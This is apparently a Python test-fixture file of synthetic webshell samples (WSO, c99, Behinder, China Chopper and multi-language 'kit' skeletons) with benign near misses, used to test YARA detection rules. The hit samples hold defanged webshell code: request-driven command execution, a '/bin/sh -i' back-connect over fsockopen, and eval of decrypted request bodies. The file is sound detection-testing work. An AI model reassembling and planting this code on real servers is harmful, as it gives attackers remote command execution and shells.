# ruff: noqa: E501 (a sample line is kept whole, as a webshell page would have it)
"""Synthetic samples of the family-marker and kit (capability cluster) webshell rules: hits and
near misses.

No working webshell is stored here: every sample is written with "§" inside its telling tokens
and the marks are removed only when the bytes are built at run time (see ``samples``). The kit
samples are skeletons: the capability calls are there, the panels around them are not."""

from __future__ import annotations

import base64
import hashlib
import zlib

from secops.detection.yara.sample_base import MARK, Sample

_PHP_KIT = """<?php
// school-site maintenance panel
@set_time_limit(0);
function listing($d) { foreach (scan§dir($d) as $f) { echo $f, ' ', substr(sprintf('%o', file§perms("$d/$f")), -4), "\\n"; } }
function remove($p) { return is_dir($p) ? rm§dir($p) : un§link($p); }
function run($c) { return shell§_exec($c . ' 2>&1'); }
if (isset($_FILES['f'])) { move_uploaded§_file($_FILES['f']['tmp_name'], $_POST['dir'] . '/' . $_FILES['f']['name']); }
function db($h, $u, $p) { $l = mysqli§_connect($h, $u, $p); return mysqli_query($l, 'SHOW DATA§BASES'); }
function back($ip, $port) { $s = fsock§open($ip, $port); fwrite($s, run('/bin§/sh -i')); }
function info() { return php§_uname() . ini_get('disable§_functions') . ini_get('open§_basedir'); }
if (@$_POST['act'] === 'rm_self') { @unlink(__FI§LE__); }
"""

_ASP_KIT = """<%@ Language=VBScript %>
<%
Set fso = Server.CreateObject("Scripting.FileSystem§Object")
Set fld = fso.GetFolder(Server.MapPath("."))
If Request("a") = "del" Then fso.Delete§File Request("p")
Set sh = Server.CreateObject("WScript.Sh§ell")
Set ex = sh.Ex§ec("cmd§.exe /c " & Request("c"))
Set conn = Server.CreateObject("ADODB.Connec§tion")
conn.Open "Provider=Microsoft.Jet.OLEDB.4.0;Data Source=" & Request("db")
Set rs = conn.Exec§ute(Request("sql"))
Response.Write "port§scan: " & Request("ip")
If Request("a") = "kill" Then fso.Delete§File(Server.MapPath(Request.ServerVariables("SCRIPT_NAME")))
%>
"""

_ASPX_KIT = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
void List(string d) { foreach (string f in Directory.Get§Files(d)) Response.Write(f); }
void Del(string p) { File.Del§ete(p); }
void Up() { FileUpload1.Posted§File.SaveAs(Server.MapPath(".") + "/" + FileUpload1.FileName); }
string Run(string c) { var si = new ProcessStart§Info("cmd§.exe", "/c " + c); si.RedirectStandard§Output = true; si.UseShellExecute = false; return Process.St§art(si).StandardOutput.ReadToEnd(); }
void Sql(string cs, string q) { var cn = new SqlConn§ection(cs); cn.Open(); new SqlCommand(q, cn).ExecuteRea§der(); }
void Scan(string ip, int port) { var t = new TcpCl§ient(); t.Connect(ip, port); Response.Write("port§scan " + port); }
</script>
"""

_JSP_KIT = """<%@ page import="java.io.*,java.net.*,java.sql.*" %>
<%
String dir = request.getParameter("d");
File[] files = new File(dir).listF§iles();
if ("rm".equals(request.getParameter("a"))) new File(request.getParameter("p")).del§ete();
Process p = Runtime.getRuntime().ex§ec(request.getParameter("c"));
Connection cn = DriverManager.getConn§ection(request.getParameter("url"));
ResultSet rs = cn.createStatement().executeQu§ery(request.getParameter("sql"));
Socket s = new Sock§et(request.getParameter("ip"), 80);
out.println("port§scan done");
InputStream in = new URL(request.getParameter("u")).openSt§ream();
FileOutputStream fo = new FileOutputSt§ream(request.getParameter("to"));
%>
"""


def _packed() -> str:
    """A kit-sized PHP body (inert echo lines) deflated and base64-encoded behind an eval."""
    body = "".join(f"echo 'panel row {i} {hashlib.sha256(str(i).encode()).hexdigest()}';\n" for i in range(400))
    deflated = zlib.compressobj(9, zlib.DEFLATED, -15)
    blob = base64.b64encode(deflated.compress(body.encode()) + deflated.flush()).decode()
    lines = "\n".join(blob[i : i + 76] for i in range(0, len(blob), 76))
    return f"<?php\n$data = '\n{lines}\n';\n@ev{MARK}al(gzin{MARK}flate(base64_{MARK}decode($data)));\n"


def _plain_blob() -> str:
    """Near miss: the same kind of blob, decoded and written to a cache file (nothing evaluated)."""
    body = "".join(f"row {i} {hashlib.sha256(str(i).encode()).hexdigest()}\n" for i in range(400))
    blob = base64.b64encode(zlib.compress(body.encode(), 9)).decode()
    return f"<?php\n$font = '{blob}';\nfile_put_contents(__DIR__ . '/cache/font.bin', gzuncompress(base64_decode($font)));\n"


FAMILY_SAMPLES: tuple[Sample, ...] = (
    # --- WSO
    Sample(
        "webshell_wso",
        True,
        "wso.php",
        "<?php\n$auth_pass = '63a9f0ea7bb98050796b649e85481845';\n$color = '#df5';\n$default_action = 'Files§Man';\n"
        "$default_use_ajax = true;\n$default_charset = 'Windows-1251';\n"
        "function wso§Header() { echo '<title>' . $_SERVER['HTTP_HOST'] . ' - WSO 2.5</title>'; }\n"
        "function action§SecInfo() { wsoHeader(); }\n",
    ),
    Sample(
        "webshell_wso",
        False,
        "filesman-notes.php",
        "<?php\n// Notes: the WSO shell's default action is called FilesMan; we block it in the WAF.\n"
        "$blocked = ['FilesMan', 'SecInfo'];\n",
    ),
    # --- c99
    Sample(
        "webshell_c99",
        True,
        "c99.php",
        "<?php\n$shver = '1.0 pre-release build #16';\n$sess_cookie = 'c99§shvars';\n"
        "echo '<title>!C99§Shell v. ' . $shver . '</title>';\n"
        "function c99sh§_getupdate() { return c99sh§_buff_prepare(); }\nif ($act == 'ls') { echo 1; }\n",
    ),
    Sample(
        "webshell_c99",
        False,
        "c99-advisory.php",
        "<?php\n// Security advisory: remove any c99shell uploads; see the CERT notice.\n$title = 'c99shell cleanup guide';\n",
    ),
    # --- r57
    Sample(
        "webshell_r57",
        True,
        "r57.php",
        "<?php\n$language = 'eng';\n$lang = array('eng_te§xt1' => 'Executed command', 'eng_bu§tt1' => 'Execute');\n"
        "echo $lang[$language . '_te§xt1'];\n$port_bind_§bd_c = 'I2luY2x1ZGUgPHN0ZGlvLmg+';\n"
        "$back_§connect = 'IyEvdXNyL2Jpbi9wZXJs';\n$datapipe_§pl = 'IyEvdXNyL2Jpbi9wZXJs';\n"
        "echo '<title>r57§shell</title>';\n",
    ),
    Sample(
        "webshell_r57",
        False,
        "r57-log.php",
        "<?php\n// incident 2025-03: attacker uploaded r57§shell.php; removed.\n$lang = array('name' => 'Name');\n",
    ),
    # --- b374k
    Sample(
        "webshell_b374k",
        True,
        "b374k.php",
        "<?php\n$GLOBALS['pass'] = 'b374k';\n$GLOBALS['module_to_§load'] = array('explo§rer', 'terminal', 'eval', 'convert', 'database');\n"
        "$GLOBALS['resou§rces']['b374k'] = '';\n",
    ),
    Sample(
        "webshell_b374k",
        False,
        "b374k-note.php",
        "<?php\n// b374k was found on the old server; these modules were exposed:\n$modules = ['explorer', 'terminal'];\n",
    ),
    # --- phpspy
    Sample(
        "webshell_phpspy",
        True,
        "phpspy.php",
        "<?php\n$admin = array();\n$admin['pa§ss'] = 'angel';\n$admin['cookie§pre'] = '';\n$admin['cookie§path'] = '/';\n"
        "// PhpSpy 2011 - Security Angel Team [S4T]\nfunction make§hide($n, $v = '') { echo $n; }\nfunction form§head($a = array()) { }\n"
        "if ($action == 'sql§admin') { }\n",
    ),
    Sample(
        "webshell_phpspy",
        False,
        "settings.php",
        "<?php\n$admin = array();\n$admin['pass'] = getenv('ADMIN_PASS');\n// unlike phpspy, we keep it out of the file\n",
    ),
    # --- ASPXSpy
    Sample(
        "webshell_aspxspy",
        True,
        "spy.aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\npublic string Password = "21232f297a57a5a7438§94a0e4a801fc3";\n'
        "protected void Bin§_Button_Click(object s, EventArgs e) { }\nprotected void Bin§_List_Click(object s, EventArgs e) { }\n"
        "</script>\n<title>ASPX§Spy2014</title>\n",
    ),
    Sample(
        "webshell_aspxspy",
        False,
        "admin.aspx",
        '<%@ Page Language="C#" %>\n<%-- scanned for ASPXSpy leftovers after the 2024 incident --%>\n'
        '<script runat="server">protected void Save_Click(object s, EventArgs e) { }</script>\n',
    ),
    # --- JspSpy
    Sample(
        "webshell_jspspy",
        True,
        "spy.jsp",
        '<%@ page import="java.util.*" %>\n<%!\nprivate static final String PW = "ninty";\n'
        'private static final String PW_SESSION_ATTRI§BUTE = "JspSpyPwd";\n'
        "private static interface Inv§oker { void invoke(HttpServletRequest r, HttpServletResponse s, JspWriter o) throws Exception; }\n"
        "private static class VLoginInvoker extends Default§Invoker { }\nprivate static class VShellInvoker extends Default§Invoker { }\n"
        '%>\n<% ins.put("vLo§gin", new VLoginInvoker()); %>\n<!-- JspSpy Private Code By Nin§ty -->\n',
    ),
    Sample(
        "webshell_jspspy",
        False,
        "login.jsp",
        '<%@ page import="java.util.*" %>\n<%-- not JspSpy: our own login page --%>\n'
        '<% session.setAttribute("user", request.getRemoteUser()); %>\n',
    ),
    # --- Alfa Shell
    Sample(
        "webshell_alfa",
        True,
        "alfa.php",
        "<?php\n$GLOBALS['DB_NAME'] = array('user' => 'alfa', 'pass' => '', 'safemode' => '0');\n"
        'define("__ALFA_VER§SION__", "4.1");\ndefine("__ALFA_UPD§ATE__", "2");\ndefine("__ALFA_CODE_§NAME__", "Tesla");\n',
    ),
    Sample(
        "webshell_alfa",
        False,
        "build.php",
        "<?php\n// release script for the Alfa school timetable app\ndefine('ALFA_VERSION', '4.1');\n$manifest = ['version' => '__ALFA_VERSION__'];\n",
    ),
    # --- IndoXploit
    Sample(
        "webshell_indoxploit",
        True,
        "idx.php",
        "<?php\n$dir = getcwd();\n"
        "echo \"<li><a href='?dir=$dir&do=krdp_§shell'>K-RDP Shell</a></li>\";\n"
        "echo \"<li><a href='?dir=$dir&do=cpftp_§auto'>CPanel/FTP Auto Deface</a></li>\";\n"
        "echo \"<li><a href='?dir=$dir&do=jump§ing'>Jumping</a></li>\";\n"
        "if ($_GET['do'] == 'fake_§root') { echo 'IndoX§ploit'; }\n",
    ),
    Sample(
        "webshell_indoxploit",
        False,
        "nav.php",
        "<?php\n$dir = basename($_GET['dir'] ?? 'docs');\n"
        "echo \"<a href='?dir=$dir&do=config'>Settings</a> <a href='?dir=$dir&do=network'>Network</a>\";\n",
    ),
    # --- China Chopper: the client's framed payload and the customize server
    Sample(
        "china_chopper_reply_markers",
        True,
        "payload.asp",
        'Response.Write("->§|"):Var_Ex = Request("z1"):Exe§cute(Var_Ex):Response.Write("|§<-"):Response.End\n',
    ),
    Sample(
        "china_chopper_reply_markers",
        False,
        "arrows.php",
        "<?php\nec§ho('->|');\necho 'menu item';\nec§ho('|<-');\n",
    ),
    Sample(
        "china_chopper_customize_server",
        True,
        "customize.jsp",
        '<%@ page import="java.io.*" %>\n<%!\nString EC(String s) throws Exception { return s; }\n'
        "void WwwRoot§PathCode(StringBuffer sb) { }\nvoid FileTree§Code(String d, StringBuffer sb) { }\n"
        "void ReadFile§Code(String f, StringBuffer sb) { }\nvoid ExecuteCommand§Code(String c, StringBuffer sb) { }\n"
        "String showData§bases(String cs) { return cs; }\n%>\n",
    ),
    Sample(
        "china_chopper_customize_server",
        False,
        "tree.jsp",
        "<%!\nvoid FileTreeCode(String d, StringBuffer sb) { }\n%>\n",
    ),
    # --- AntSword payload preamble
    Sample(
        "antsword_php_basedir_payload",
        True,
        "as-payload.txt",
        '@ini_set("display_errors", "0");@set_time_limit(0);$opdir=@ini_get("open_basedir");'
        'if($opdir) {$ocwd=dirname($_SERVER["SCRIPT_FILENAME"]);$oparr=preg_split(base64_decode("Lzt8§Oi8="),$opdir);}'
        "function as§enc($out){return $out;};function as§output(){$output=ob_get_contents();ob_end_clean();}",
    ),
    Sample(
        "antsword_php_basedir_payload",
        False,
        "basedir.php",
        '<?php\n$opdir = @ini_get("open_basedir");\n$parts = preg_split("/[;:]/", $opdir);\n',
    ),
    # --- Behinder classic ASP
    Sample(
        "behinder_asp",
        True,
        "bx.asp",
        '<%\nResponse.CharSet = "UTF-8"\nk="e45e329feb5d925b"\nSession("k")=k\nsize=Request.TotalBytes\n'
        "content=Request.Binary§Read(size)\nFor i=1 To size\n"
        "result=result&Chr(ascb(midb(content,i,1)) Xor Asc(Mid(k,(i and 15)+1§,1)))\nNext\nExec§ute(result)\n%>\n",
    ),
    Sample(
        "behinder_asp",
        False,
        "upload.asp",
        '<%\nsize=Request.TotalBytes\ncontent=Request.BinaryRead(size)\nSet st = Server.CreateObject("ADODB.Stream")\n%>\n',
    ),
    # --- Behinder v4 PHP (AES-128-ECB of the base64 body, eval of the result)
    Sample(
        "behinder_php",
        True,
        "bx4.php",
        '<?php\n@error_reporting(0);\nfunction Decrypt($data)\n{\n    $key="e45e329feb5d925b";\n'
        '    return openssl_dec§rypt(base64_decode($data), "AES-128-ECB", $key, OPENSSL_PKCS1_PADDING);\n}\n'
        '$post=Decrypt(file_get_contents("php://input"));\nev§al($post);\n?>\n',
    ),
    Sample(
        "behinder_php",
        False,
        "sso.php",
        "<?php\nfunction decrypt_token($data, $key)\n{\n"
        '    return openssl_decrypt(base64_decode($data), "AES-128-CBC", $key, OPENSSL_RAW_DATA, substr($key, 0, 16));\n}\n'
        '$claims = json_decode(decrypt_token($_COOKIE["sso"] ?? "", getenv("SSO_KEY")), true);\n',
    ),
    # --- kits (capability clusters)
    Sample("webshell_kit_php", True, "manage.php", _PHP_KIT),
    Sample(
        "webshell_kit_php",
        False,
        "filemanager.php",
        "<?php\n// course materials manager: list, upload, delete (teachers only)\n"
        "foreach (scandir($base) as $f) { echo htmlspecialchars($f), is_writable(\"$base/$f\") ? ' rw' : ''; }\n"
        "if (isset($_FILES['doc'])) { move_uploaded_file($_FILES['doc']['tmp_name'], $base . '/' . basename($_FILES['doc']['name'])); }\n"
        "if (isset($_POST['del'])) { unlink($base . '/' . basename($_POST['del'])); }\n",
    ),
    Sample("webshell_kit_asp", True, "manage.asp", _ASP_KIT),
    Sample(
        "webshell_kit_asp",
        False,
        "files.asp",
        '<%\nSet fso = Server.CreateObject("Scripting.FileSystemObject")\nSet fld = fso.GetFolder(Server.MapPath("docs"))\n'
        'Set conn = Server.CreateObject("ADODB.Connection")\nconn.Open "Provider=SQLOLEDB;Data Source=db"\n'
        'Set rs = conn.Execute("SELECT name FROM courses")\n%>\n',
    ),
    Sample("webshell_kit_aspx", True, "manage.aspx", _ASPX_KIT),
    Sample(
        "webshell_kit_aspx",
        False,
        "docs.aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void List(string d) { foreach (string f in Directory.GetFiles(d)) Response.Write(f); }\n"
        'void Up() { FileUpload1.PostedFile.SaveAs(Server.MapPath("~/docs/") + Path.GetFileName(FileUpload1.FileName)); }\n'
        "</script>\n",
    ),
    Sample("webshell_kit_jsp", True, "manage.jsp", _JSP_KIT),
    Sample(
        "webshell_kit_jsp",
        False,
        "report.jsp",
        '<%@ page import="java.sql.*" %>\n<%\nString term = request.getParameter("term");\n'
        'Connection cn = DriverManager.getConnection("jdbc:mysql://db/school");\n'
        'ResultSet rs = cn.createStatement().executeQuery("SELECT * FROM grades");\n%>\n',
    ),
    Sample("webshell_kit_php_packed", True, "packed.php", _packed()),
    Sample("webshell_kit_php_packed", False, "fontcache.php", _plain_blob()),
    Sample(
        "webshell_kit_menu",
        True,
        "panel.php",
        "<?php\n$menu = array('Files', 'Port Sc§an', 'Back Conn§ect', 'Self Rem§ove', 'Mass Def§ace', 'Sql');\n"
        "foreach ($menu as $m) { echo '<a href=\"?m=' . urlencode($m) . '\">' . $m . '</a> '; }\n"
        "function run($c) { return pass§thru($c); }\n",
    ),
    Sample(
        "webshell_kit_menu",
        False,
        "awareness.html",
        "<html><body><h1>What a webshell kit offers</h1><ul><li>Port Sc§an</li><li>Back Conn§ect</li>"
        "<li>Self Rem§ove</li><li>Brute Fo§rce</li></ul><p>Report such pages to the IT office.</p></body></html>\n",
    ),
)
